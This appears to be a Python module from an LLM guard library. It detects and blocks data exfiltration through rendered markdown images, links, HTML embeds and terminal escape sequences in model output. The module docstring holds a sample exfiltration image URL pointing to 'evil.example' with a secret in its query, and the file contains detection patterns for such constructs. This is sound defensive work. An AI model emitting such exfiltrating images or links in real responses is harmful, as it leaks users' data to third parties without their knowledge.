"""Output-handling guard: markdown image/link exfiltration, domain allow-lists and ANSI escapes.

A chat UI fetches markdown images automatically, so ``![x](https://evil.example/?d=<secret>)`` in
a response sends data to a third party without a click; links do the same with one click, and
terminal escape sequences (ANSI CSI/OSC, including OSC 8 hyperlinks) can rewrite what a console
user sees. This guard finds those constructs, checks their hosts against an allow-list, and
blocks, redacts (replaces the construct) or flags. While streaming it holds back an unfinished
construct so no URL is released before it has been judged. It does not fetch anything.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal
from urllib.parse import urlsplit

from pydantic import Field

from llmloop.core.guards import GuardVerdict
from llmloop.guards.base import Guard, GuardConfig

_IMAGE = re.compile(r"!\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)[^)]{0,200}\)")
_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)[^)]{0,200}\)")
_REFERENCE = re.compile(r"^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(\S+?)>?(\s|$)", re.M)
_HTML_SRC = re.compile(r"<(img|image|iframe|script|video|audio|source)\b[^>]*\b(src|href)\s*=\s*[\"']?([^\"'\s>]+)", re.I)  # fmt: skip  # noqa: E501
_BARE_URL = re.compile(r"\bhttps?://[^\s<>()\[\]\"']+", re.I)
_ANSI = re.compile(r"\x1b(\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)|[@-Z\\-_])|\x9b[0-?]*[ -/]*[@-~]")  # fmt: skip  # noqa: E501
_PARTIAL = re.compile(r"(!?\[[^\]\n]{0,200}(\]\([^)\n]{0,400})?|<[a-z][^>\n]{0,400}|\x1b[^\n]{0,64}|https?:/?/?\S*)$", re.I)  # fmt: skip  # noqa: E501


@dataclass(frozen=True)
class LinkFinding:
    """One risky construct: the rule that fired, where it is, and its URL (if any)."""

    rule_id: str
    start: int
    end: int
    url: str


class LinksConfig(GuardConfig):
    allowed_domains: list[str] = Field(
        default_factory=list,
        description="Hosts (and their subdomains) that images and links may point to.",
    )
    block_images: bool = Field(
        default=True, description="Images to hosts off the allow-list (auto-fetched) fire."
    )
    block_links: bool = Field(
        default=False,
        description="Links and bare URLs to unlisted hosts fire (off: many answers cite).",
    )
    max_query_chars: int = Field(
        default=64,
        ge=0,
        description="A link whose query/fragment is longer than this to an unlisted host fires "
        "as data exfiltration even when block_links is off.",
    )
    ansi: bool = Field(default=True, description="Terminal escape sequences fire.")
    action: Literal["block", "redact", "flag"] = Field(
        default="block", description="What a hit does; 'redact' removes the construct."
    )


class LinksGuard(Guard):
    """Output guard against exfiltration through rendered markdown/HTML and terminal escapes."""

    name = "links"
    config_cls = LinksConfig
    config: LinksConfig
    window_chars = 1024

    def _allowed(self, url: str) -> bool:
        parts = urlsplit(url)
        if not parts.scheme and not url.startswith("//"):
            return True  # relative: resolved against the page's own origin
        if parts.scheme and parts.scheme not in ("http", "https"):
            return parts.scheme not in ("javascript", "vbscript", "data")
        host = (parts.hostname or "").lower()
        return any(host == d or host.endswith("." + d) for d in self.config.allowed_domains)

    def find(self, text: str) -> list[LinkFinding]:
        """Every risky construct in ``text``, in order of position."""
        found: list[LinkFinding] = []
        cfg = self.config
        if cfg.ansi:
            found += [
                LinkFinding("ansi.escape", m.start(), m.end(), "") for m in _ANSI.finditer(text)
            ]
        spans: list[tuple[int, int]] = []
        for rule_id, pattern, group in (
            ("links.markdown_image", _IMAGE, 1),
            ("links.html_embed", _HTML_SRC, 3),
            ("links.markdown_link", _LINK, 1),
            ("links.reference", _REFERENCE, 1),
            ("links.bare_url", _BARE_URL, 0),
        ):
            for m in pattern.finditer(text):
                if any(s <= m.start() < e for s, e in spans):
                    continue  # a URL inside a construct already judged
                spans.append((m.start(), m.end()))
                url = m.group(group)
                if self._allowed(url):
                    continue
                image = rule_id in ("links.markdown_image", "links.html_embed")
                parts = urlsplit(url)
                leaky = len(parts.query) + len(parts.fragment) > cfg.max_query_chars
                if (image and cfg.block_images) or cfg.block_links or leaky:
                    rule = "links.exfiltration" if leaky and not image else rule_id
                    found.append(LinkFinding(rule, m.start(), m.end(), url))
        return sorted(found, key=lambda f: f.start)

    def check_output(self, text: str, final: bool) -> list[GuardVerdict]:
        findings = self.find(text)
        if not findings:
            return []
        redacted = None
        if self.config.action == "redact":
            parts, last = [], 0
            for f in findings:
                if f.start >= last:
                    parts += [
                        text[last : f.start],
                        "" if f.rule_id == "ansi.escape" else "[link removed]",
                    ]
                    last = f.end
            redacted = "".join(parts) + text[last:]
        first = findings[0]
        return [
            GuardVerdict(
                guard=self.name,
                rule_id=first.rule_id,
                action=self.config.action,
                stage="output",
                reason=f"{len(findings)} risky construct(s); first at {first.start}"
                + (f" to {urlsplit(first.url).hostname or first.url[:40]}" if first.url else ""),
                redacted=redacted,
            )
        ]

    def hold_from(self, text: str) -> int:
        """Hold back an unfinished image, link, HTML tag, escape sequence or URL."""
        m = _PARTIAL.search(text[-600:])
        return len(text) - len(m.group(0)) if m else len(text)
